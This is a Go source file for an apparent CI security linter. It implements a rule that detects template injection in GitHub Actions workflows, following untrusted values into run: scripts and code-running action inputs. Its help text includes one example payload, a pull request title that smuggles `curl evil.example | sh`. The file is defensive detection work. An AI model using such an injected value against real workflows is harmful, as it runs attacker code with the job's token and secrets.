package cicheck

import (
	"strings"

	"github.com/buildwall/buildwall/internal/ciconfig"
	"github.com/buildwall/buildwall/internal/finding"
)

var templateInjectionRule = finding.Rule{
	ID:       "template-injection",
	Severity: finding.SeverityHigh,
	Summary:  "An attacker-controllable ${{ }} expression (pull request title, branch name, issue or comment body, commit message, ..., or an env variable, matrix value, step or job output or action input carrying one; medium for workflow_dispatch/workflow_call inputs) is expanded inside run: or a script input such as actions/github-script script:.",
	Fix:      "Pass the value through an environment variable (env: TITLE: ${{ github.event.pull_request.title }}) and use \"$TITLE\" in the script.",
	Help: "`${{ }}` is substituted into the script text before the shell or JavaScript runs, so a pull request titled " +
		"`a\"; curl evil.example | sh; \"` runs the attacker's command with the job's token and secrets (Ultralytics 2024, Nx 2025). " +
		"An environment variable is passed as data and never parsed as code. The list of attacker-controllable contexts is actionlint's, " +
		"plus the workflow_run fields a pull request's author controls, in any letter case and in bracket notation (github.event['issue']['title']); " +
		"a whole object that holds such fields (toJSON(github.event), github.event.issue) counts too. Values reduced to a boolean " +
		"(contains(), startsWith(), endsWith(), comparisons, the left side of &&) are safe, and so are env: values and if: conditions. " +
		"Besides run:, the inputs that actions run as code are checked: actions/github-script script, azure/cli and azure/powershell inlineScript, " +
		"and a few more (cardinalby/js-eval-action, amadevus/pwsh-script, jannekem/run-python-script-action, appleboy/ssh-action, " +
		"addnab/docker-run-action run, mikefarah/yq cmd). " +
		"Taint is followed beyond the event: string inputs of workflow_dispatch and workflow_call (inputs.x, github.event.inputs.x; reported as medium, " +
		"since whoever starts or calls the workflow sets them), env: at any level and $GITHUB_ENV writes set from untrusted values, matrix rows " +
		"listing them, step outputs written from them to $GITHUB_OUTPUT (steps.<id>.outputs.x), on pull request triggers the outputs of " +
		"actions that list the changed file names or name the branch (tj-actions/changed-files, dorny/paths-filter, tj-actions/branch-names), and the inputs of a local composite action " +
		"(uses: ./dir) that a caller in the repository passes untrusted values to, reported in the action where it expands them.",
}

var templateInjection = Rule{Rule: templateInjectionRule, Workflow: checkTemplateInjectionWorkflow, Action: checkTemplateInjectionAction}

func checkTemplateInjectionWorkflow(c *Context, w *ciconfig.Workflow, report func(finding.Finding)) {
	checkEnvExpressions(c, w, report)
	wt := workflowTaint(w)
	for name, from := range c.ActionInputs {
		// A caller in the repository passes untrusted values: the
		// inputs are an outsider's, not only the caller's.
		wt.addPath("inputs."+strings.ToLower(name), from, false)
	}
	for _, j := range w.Jobs {
		jt := jobTaint(wt, j)
		workflowCall(c, j, &jt)
		for _, s := range j.Steps {
			st := jt.withEnv(s.Env)
			checkTemplateInjectionStep(c, w.Source, s, &st, report)
			localCall(c, s, &st)
			jt = afterStep(jt, &st, s)
			jt = actionOutputs(jt, s)
		}
		jobOutputs(&wt, j, &jt)
	}
}

func checkTemplateInjectionAction(c *Context, a *ciconfig.Action, report func(finding.Finding)) {
	var at taint
	for name, from := range c.ActionInputs {
		at.addPath("inputs."+strings.ToLower(name), from, false)
	}
	for _, s := range actionSteps(a) {
		envExpression(c, s.step.EnvExpr, "the step", report)
		st := at.withEnv(s.step.Env)
		checkTemplateInjectionStep(c, a.Source, s.step, &st, report)
		localCall(c, s.step, &st)
		at = afterStep(at, &st, s.step)
	}
}

// taintScope is the environment variables set from untrusted input at one
// level (workflow, job, step) over its parent's. A level keeps only its own
// env: entries, so that many steps under a job with many variables do not
// copy the job's set each.
type taintScope struct {
	parent *taintScope
	// vars maps a name set at this level, in lower case (expressions
	// read env case-insensitively), to the name as set and the untrusted
	// context it carries, or to "" when this level overrides it with a
	// safe value.
	vars map[string]envVar
	// tainted is false when no level sets a variable from untrusted input
	// (a cheap filter; an override may still hide all of them).
	tainted bool
}

// any reports whether some variable in scope may carry untrusted input;
// a nil scope has none.
func (e *taintScope) any() bool { return e != nil && e.tainted }

// lookup returns the untrusted context variable name carries, if any.
func (e *taintScope) lookup(name string) (string, bool) {
	_, from, ok := e.lookupName(name)
	return from, ok
}

// lookupName is lookup that also returns the variable's name as set.
func (e *taintScope) lookupName(name string) (string, string, bool) {
	name = strings.ToLower(name)
	for ; e != nil; e = e.parent {
		if v, ok := e.vars[name]; ok {
			return v.name, v.from, v.from != ""
		}
	}
	return "", "", false
}

// envVar is one variable of a taintScope.
type envVar struct{ name, from string }

// taintedEnv returns the scope of env's entries over parent (nil at the
// top); parent is never modified.
func taintedEnv(parent *taintScope, env []ciconfig.Pair) *taintScope {
	if len(env) == 0 {
		return parent
	}
	var out *taintScope // allocated at the first entry to record
	for _, p := range env {
		var tainted string
		if p.Value != nil && strings.Contains(p.Value.Value, "${{") {
			for _, e := range expressions(p.Value.Value) {
				if len(e.Untrusted) > 0 {
					tainted = e.Untrusted[0]
					break
				}
			}
		}
		if tainted == "" && !out.any() && !parent.any() {
			continue // nothing to override
		}
		if out == nil {
			out = &taintScope{parent: parent, vars: map[string]envVar{}, tainted: parent.any()}
		}
		out.vars[strings.ToLower(p.Name.Value)] = envVar{p.Name.Value, tainted}
		out.tainted = out.tainted || tainted != ""
	}
	if out == nil {
		return parent // nothing set or overridden here
	}
	return out
}

func checkTemplateInjectionStep(c *Context, src *ciconfig.Source, s *ciconfig.Step, env *taint, report func(finding.Finding)) {
	if s.Run != nil {
		checkInjectedScript(c, src, s.Run, "run:", shellLang(s.Shell), env, report)
	}
	if name := actionName(s); name != "" {
		for _, sink := range codeInputs {
			if name != sink.action {
				continue
			}
			if p := s.Input(sink.input); p != nil && p.Value != nil {
				checkInjectedScript(c, src, p.Value, sink.action+" "+sink.input+":", sink.lang, env, report)
			}
		}
	}
}

// codeInputs are action inputs whose value the action runs as code.
var codeInputs = []struct{ action, input, lang string }{
	{"actions/github-script", "script", "js"},
	{"cardinalby/js-eval-action", "expression", "js"},
	{"azure/cli", "inlineScript", "sh"},
	{"azure/powershell", "inlineScript", "pwsh"},
	{"amadevus/pwsh-script", "script", "pwsh"},
	{"jannekem/run-python-script-action", "script", "python"},
	{"appleboy/ssh-action", "script", "sh"},
	{"mathiasvr/command-output", "run", "sh"},
	{"addnab/docker-run-action", "run", "sh"},
	{"mikefarah/yq", "cmd", "sh"},
}

func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.String, where, lang string, env *taint, report func(finding.Finding)) {
	if !strings.Contains(script.Value, "${{") {
		return
	}
	type hit struct {
		e     expr
		paths []string
		soft  bool
	}
	var buf [4]hit
	hits := buf[:0]
	for _, e := range expressions(script.Value) {
		paths, soft := e.Untrusted, false
		if len(paths) == 0 && env.any() {
			paths, soft = taintedRefsParsed(script.Value[e.Start:e.End], env)
		}
		if len(paths) > 0 {
			hits = append(hits, hit{e, paths, soft})
		}
	}
	reportCapped(len(hits), func(i int) finding.Finding {
		e, paths := hits[i].e, hits[i].paths
		text := script.Value[e.Start:e.End]
		if strings.ContainsAny(text, "\n\r\t") {
			text = strings.Join(strings.Fields(text), " ") // one line in messages
		}
		fix := ""
		if name, ok := strings.CutPrefix(paths[0], "env."); ok {
			name, _, _ = strings.Cut(name, " ")
			fix = "The value is already in the step's environment: use \"" + shellRef(lang, name) + "\" instead of the expression."
		} else {
			env := envName(paths[0])
			fix = "Pass it through an environment variable: add `env: " + env + ": " + text + "` to the step and use \"" + shellRef(lang, env) + "\" instead of the expression."
		}
		who := "an outsider controls"
		if hits[i].soft {
			who = "whoever starts or calls the workflow controls"
		}
		f := c.at(&templateInjectionRule, src.Locate(script, e.Start),
			where+" expands "+text+", which "+who+" ("+strings.Join(paths, ", ")+"): its text becomes part of the script and can run commands",
			fix)
		if hits[i].soft {
			f.Severity = finding.SeverityMedium
		}
		return f
	}, report)
}

// envName derives an environment variable name from a context path:
// github.event.pull_request.title gives PR_TITLE.
func envName(path string) string {
	path, _, _ = strings.Cut(path, " ")
	parts := strings.Split(path, ".")
	last := parts[len(parts)-1]
	prefix := ""
	for _, p := range parts[:len(parts)-1] {
		switch p {
		case "pull_request":
			prefix = "PR_"
		case "issue":
			prefix = "ISSUE_"
		case "comment", "review_comment":
			prefix = "COMMENT_"
		case "review":
			prefix = "REVIEW_"
		case "head_commit", "commits":
			prefix = "COMMIT_"
		case "head":
			prefix += "HEAD_"
		case "discussion":
			prefix = "DISCUSSION_"
		}
	}
	return strings.ToUpper(prefix + strings.ReplaceAll(last, "-", "_"))
}

// shellLang is the language of a run: script with shell: sh (nil for the
// default shell).
func shellLang(sh *ciconfig.String) string {
	if sh == nil {
		return "sh"
	}
	switch v := strings.ToLower(strings.TrimSpace(sh.Value)); {
	case strings.HasPrefix(v, "pwsh"), strings.HasPrefix(v, "powershell"):
		return "pwsh"
	case strings.HasPrefix(v, "python"):
		return "python"
	case strings.HasPrefix(v, "node"):
		return "js"
	}
	return "sh"
}

// shellRef is how a script in language lang reads environment variable env.
func shellRef(lang, env string) string {
	switch lang {
	case "js":
		return "process.env." + env
	case "pwsh":
		return "$env:" + env
	case "python":
		return "os.environ['" + env + "']"
	}
	return "$" + env
}
